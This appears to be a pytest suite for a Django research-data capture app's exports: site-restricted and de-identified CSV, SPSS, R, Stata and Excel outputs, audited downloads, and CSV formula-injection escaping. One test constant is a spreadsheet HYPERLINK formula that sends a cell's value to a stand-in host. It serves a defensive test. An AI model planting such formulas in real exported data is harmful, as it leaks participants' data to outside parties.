from __future__ import annotations

import csv
import io
import zipfile

import pyreadstat
import pytest
from django.core.exceptions import PermissionDenied
from django.urls import reverse

from audit.models import AuditEvent
from capture import exports, services
from capture.models import Export
from capture.tests.factories import make_study
from core.testing.mfa import enable_totp

pytestmark = pytest.mark.django_db


@pytest.fixture
def study(personas, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    study, site_a, site_b = make_study(personas)
    for who, role, site in [
        ("site_lead_a", "site_lead", site_a),
        ("statistician", "statistician", None),
        ("trainee", "collaborator", site_a),
    ]:
        services.study_grant_role(
            actor=personas.committee,
            study=study,
            person=personas.people[who],
            role=role,
            study_site=site,
        )
        enable_totp(personas.people[who])
    enable_totp(personas.committee)
    for site, age, comment in [(site_a, "44", "fine"), (site_b, "61", "seen twice")]:
        record = services.record_create(actor=personas.committee, study=study, study_site=site)
        services.entry_save(
            actor=personas.committee,
            record=record,
            instrument="baseline",
            values={
                "age": age,
                "modality": ["1", "2"],
                "mri_field": "2",
                "comment": comment,
                "scan_date": "2026-03-04",
            },
        )
    return study


def _made(actor, study, **options):
    export = exports.export_request(actor=actor, study=study, **options)
    return exports.export_run(export.pk)


def _csv_rows(export):
    with export.file.open("rb") as handle:
        return list(csv.DictReader(io.StringIO(handle.read().decode("utf-8-sig"))))


def test_a_site_lead_exports_their_own_site_with_labels(personas, study):
    export = _made(personas.site_lead_a, study, format="csv", labels=True)
    assert export.state == Export.State.DONE, export.error
    rows = _csv_rows(export)
    assert [row["record_id"] for row in rows] == ["AAA-1"]
    assert rows[0]["mri_field"] == "3 T"
    assert rows[0]["comment"] == "fine"


def test_the_statistician_gets_every_site_de_identified(personas, study):
    export = _made(personas.statistician, study, format="csv")
    assert export.options["deidentify"] is True
    rows = _csv_rows(export)
    assert [row["record_id"] for row in rows] == ["AAA-1", "BBB-1"]
    assert "comment" not in rows[0]
    assert all(row["scan_date"] != "2026-03-04" for row in rows)


def test_spss_keeps_value_labels(personas, study, tmp_path):
    export = _made(personas.committee, study, format="sav")
    assert export.state == Export.State.DONE, export.error
    path = tmp_path / "read.sav"
    with export.file.open("rb") as handle:
        path.write_bytes(handle.read())
    frame, meta = pyreadstat.read_sav(str(path))
    assert len(frame) == 2
    assert meta.variable_value_labels["mri_field"] == {1.0: "1.5 T", 2.0: "3 T"}


def test_an_r_export_is_a_zip_of_the_csv_and_its_script(personas, study):
    export = _made(personas.committee, study, format="r", labels=False)
    with export.file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
        assert sorted(archive.namelist()) == ["records.R", "records.csv"]
        assert "factor(" in archive.read("records.R").decode()


def test_a_collaborator_may_not_export(personas, study):
    with pytest.raises(PermissionDenied):
        exports.export_request(actor=personas.trainee, study=study, format="csv")


def test_only_the_person_who_asked_downloads_and_both_are_audited(client, personas, study):
    export = _made(personas.site_lead_a, study, format="csv")
    url = reverse("capture:export_download", args=[study.pk, export.pk])
    client.force_login(personas.committee)
    assert client.get(url).status_code == 404
    client.force_login(personas.site_lead_a)
    response = client.get(url)
    assert response.status_code == 200
    assert b"AAA-1" in b"".join(response.streaming_content)
    actions = set(
        AuditEvent.objects.filter(
            object_type="capture.export", object_id=str(export.pk)
        ).values_list("action", flat=True)
    )
    assert actions == {"export.request", "export.download"}


def test_the_exports_page_queues_an_export(
    client, personas, study, django_capture_on_commit_callbacks
):
    client.force_login(personas.statistician)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            reverse("capture:exports", args=[study.pk]),
            {"format": "xlsx", "checkboxes": "wide", "repeats": "long"},
        )
    assert response.status_code == 302
    assert Export.objects.get().state == Export.State.DONE
    page = client.get(reverse("capture:exports", args=[study.pk])).content.decode()
    assert "Download" in page


FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2,"Click")'


@pytest.fixture
def formula_entry(personas, study):
    from capture.models import Record

    record = Record.objects.get(study=study, label="AAA-1")
    services.entry_save(
        actor=personas.committee,
        record=record,
        instrument="baseline",
        values={"comment": FORMULA},
        reason="test",
    )


def test_a_csv_export_quotes_free_text_a_spreadsheet_would_run(personas, study, formula_entry):
    rows = _csv_rows(_made(personas.committee, study, format="csv"))
    assert rows[0]["comment"] == "'" + FORMULA


def test_the_raw_option_keeps_text_as_entered_for_statistical_software(
    personas, study, formula_entry
):
    export = _made(personas.committee, study, format="csv", raw=True)
    assert _csv_rows(export)[0]["comment"] == FORMULA
    bundle = _made(personas.committee, study, format="r")  # read by its R script: always raw
    with bundle.file.open("rb") as handle, zipfile.ZipFile(handle) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read("records.csv").decode())))
    assert rows[0]["comment"] == FORMULA


def test_the_exports_page_offers_the_raw_option(
    client, personas, study, django_capture_on_commit_callbacks
):
    client.force_login(personas.committee)
    url = reverse("capture:exports", args=[study.pk])
    assert 'name="raw"' in client.get(url).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"format": "csv", "checkboxes": "wide", "repeats": "long", "raw": "on"})
    assert Export.objects.get().options["raw"] is True


def test_the_api_takes_the_raw_option(client, personas, study, django_capture_on_commit_callbacks):
    client.force_login(personas.committee)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            f"/api/v1/studies/{study.pk}/exports",
            {"format": "csv", "raw": True},
            content_type="application/json",
        )
    assert response.status_code == 202
    assert response.json()["options"]["raw"] is True


def test_a_stata_export_with_long_names_carries_its_codebook(personas, settings, tmp_path):
    from formats.datadictionary.tests.builders import dictionary_csv, row

    settings.MEDIA_ROOT = tmp_path
    form = "computed_tomography_head_reading"  # its _complete column has 41 characters
    csv_text = dictionary_csv(
        row("record_id", label="Record ID", form=form),
        row("grade", "radio", "Grade", form=form, choices="1, Low | 2, High"),
        row("seen_on", label="Seen on", form=form, validation="date_ymd"),
    )
    study, _ = services.study_create(
        actor=personas.committee, title="Long names", dictionary_csv=csv_text
    )
    site = services.study_add_site(
        actor=personas.committee, study=study, site=personas.site_a, code="AAA"
    )
    services.study_go_live(actor=personas.committee, study=study)
    enable_totp(personas.committee)
    record = services.record_create(actor=personas.committee, study=study, study_site=site)
    services.entry_save(
        actor=personas.committee, record=record, instrument=form, values={"grade": "2"}, status=2
    )
    export = _made(personas.committee, study, format="dta")
    assert export.state == Export.State.DONE, export.error
    assert export.file.name.endswith(".zip")
    with export.file.open("rb") as handle, zipfile.ZipFile(handle) as bundle:
        assert sorted(bundle.namelist()) == ["codebook.csv", "records.dta"]
        (tmp_path / "r.dta").write_bytes(bundle.read("records.dta"))
        book = list(csv.DictReader(io.StringIO(bundle.read("codebook.csv").decode())))
    frame, meta = pyreadstat.read_dta(str(tmp_path / "r.dta"))
    short = next(r["variable"] for r in book if r["redcap_name"] == f"{form}_complete")
    assert len(short) <= 32
    assert meta.variable_value_labels[short] == {0: "Incomplete", 1: "Unverified", 2: "Complete"}
    assert frame[short].iloc[0] == 2
    assert frame["seen_on"].isna().all()  # no date was given: still a date column
    assert meta.original_variable_types["seen_on"] == "%td"
